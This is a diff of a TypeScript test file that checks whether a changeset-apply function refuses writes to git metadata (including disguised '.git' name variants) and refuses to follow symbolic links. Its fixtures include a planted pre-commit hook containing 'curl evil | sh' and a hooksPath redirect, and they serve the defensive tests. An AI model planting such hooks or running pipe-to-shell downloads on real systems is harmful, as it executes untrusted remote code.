@@ -392,7 +392,12 @@ describe('applyChangeset: overlapping project roots', () => {
     await symlink(docs, path.join(root, 'alias'));
     const cs = withReadOnly([await modify('alias/readme.md', 'overwritten\n')]);
     const problems = await expectRefused(cs);
-    expect(problems).toEqual([expect.stringMatching(intrusion('MODIFY', 'alias/readme\\.md'))]);
+    // Refused as a link before the read-only roots are even compared: Apply follows no link at all.
+    expect(problems).toEqual([
+      expect.stringMatching(
+        /^local\/demo: MODIFY "alias\/readme\.md": "alias" is a symbolic link; Apply does not follow it$/,
+      ),
+    ]);
   });
 
   it.each<[string, () => string]>([
@@ -508,18 +513,6 @@ describe('applyChangeset: success', () => {
     expect(tempFilesIn(tree)).toEqual([]);
   });
 
-  it('writes through a directory symlink that stays inside the root', async () => {
-    await put('real/a.txt', 'old\n');
-    await symlink(path.join(root, 'real'), path.join(root, 'alias'));
-    const cs = changeset([await modify('alias/a.txt', 'new\n')]);
-
-    const result = await applyChangeset(cs, { at: AT });
-
-    expect(result.modified).toBe(1);
-    expect((await current('real/a.txt')).toString()).toBe('new\n');
-    expect((await lstat(path.join(root, 'alias'))).isSymbolicLink()).toBe(true);
-  });
-
   it('applies an empty changeset', async () => {
     const before = await snapshot(area);
     const result = await applyChangeset(changeset([]), { at: AT });
@@ -533,5 +526,97 @@ describe('applyChangeset: success', () => {
       appliedAt: AT,
     });
     expect(await snapshot(area)).toEqual(before);
+  });
+});
+
+/** One hash of a whole tree (every path, type, content hash, mode and link target): equal means nothing changed. */
+async function treeHash(dir: string): Promise<string> {
+  return sha256(JSON.stringify(await snapshot(dir)));
+}
+
+/** A project that is a git checkout: its `.git` holds config and a hooks directory, as a real one does. */
+async function withGitDirectory(): Promise<void> {
+  await put('.git/config', '[core]\n\tbare = false\n');
+  await put('.git/HEAD', 'ref: refs/heads/main\n');
+  await put('.git/hooks/pre-commit.sample', '#!/bin/sh\n', 0o755);
+  await put('src/a.ts', 'export const a = 1;\n');
+}
+
+describe('applyChangeset: git metadata and links inside the project', () => {
+  beforeEach(withGitDirectory);
+
+  it.each([
+    ['CREATE ".GIT/config"', (): FileChange => create('.GIT/config', '[core]\n\thooksPath = /tmp/evil\n')],
+    ['CREATE ".git./hooks/x"', (): FileChange => create('.git./hooks/x', '#!/bin/sh\nevil\n')],
+    ['CREATE "git~1/config"', (): FileChange => create('git~1/config', '[core]\n')],
+    ['CREATE ".Git /HEAD"', (): FileChange => create('.Git /HEAD', 'ref: refs/heads/evil\n')],
+    ['CREATE "src/.git/config"', (): FileChange => create('src/.git/config', '[core]\n')],
+  ])('refuses %s, a name for .git, at validation', async (_what, make) => {
+    const before = await treeHash(root);
+    const problems = await expectRefused(changeset([make()]));
+    expect(problems).toEqual([
+      expect.stringMatching(/that names git's directory "\.git"; changes never touch it$/),
+    ]);
+    expect(await treeHash(root)).toBe(before);
+  });
+
+  it('refuses a MODIFY of .git/HEAD and a MOVE of .git/config, whatever else the changeset holds', async () => {
+    const before = await treeHash(root);
+    const config = await current('.git/config');
+    const cs = changeset([
+      create('ok.txt', 'fine\n'),
+      change({
+        operation: 'MOVE',
+        path: 'config.bak',
+        fromPath: '.git/config',
+        beforeHash: sha256(config),
+        afterHash: sha256(config),
+      }),
+      await modify('.git/HEAD', 'ref: refs/heads/evil\n'),
+    ]);
+    const problems = await expectRefused(cs);
+    expect(problems).toEqual([
+      expect.stringMatching(/^local\/demo: MODIFY "\.git\/HEAD": .*names git's directory/),
+      expect.stringMatching(
+        /^local\/demo: MOVE "\.git\/config" -> "config\.bak": source: .*names git's directory/,
+      ),
+    ]);
+    expect(await treeHash(root)).toBe(before);
+  });
+
+  it('refuses CREATE hooks/pre-commit when hooks is a link to .git/hooks (a link staying inside the project)', async () => {
+    await symlink('.git/hooks', path.join(root, 'hooks'));
+    const before = await treeHash(root);
+    const problems = await expectRefused(
+      changeset([create('hooks/pre-commit', '#!/bin/sh\ncurl evil | sh\n')]),
+    );
+    expect(problems).toEqual([
+      'local/demo: CREATE "hooks/pre-commit": "hooks" is a symbolic link; Apply does not follow it',
+    ]);
+    expect(await treeHash(root)).toBe(before);
+    expect(await lstat(path.join(root, '.git/hooks/pre-commit')).catch(() => null)).toBeNull();
+  });
+
+  it('refuses MODIFY docs/a.ts when docs is a link to src (it used to be written through)', async () => {
+    await symlink('src', path.join(root, 'docs'));
+    const before = await treeHash(root);
+    const problems = await expectRefused(changeset([await modify('docs/a.ts', 'export const a = 2;\n')]));
+    expect(problems).toEqual([
+      'local/demo: MODIFY "docs/a.ts": "docs" is a symbolic link; Apply does not follow it',
+    ]);
+    expect(await treeHash(root)).toBe(before);
+  });
+
+  it('refuses a link deeper on the way, and a MOVE whose source lies behind one', async () => {
+    await mkdir(path.join(root, 'pkg'));
+    await symlink('../src', path.join(root, 'pkg', 'lib'));
+    const before = await treeHash(root);
+    const problems = await expectRefused(
+      changeset([create('pkg/lib/b.ts', 'b\n'), await move('pkg/lib/a.ts', 'moved.ts')]),
+    );
+    expect(problems).toHaveLength(2);
+    for (const problem of problems)
+      expect(problem).toMatch(/"pkg\/lib" is a symbolic link; Apply does not follow it$/);
+    expect(await treeHash(root)).toBe(before);
   });
 });
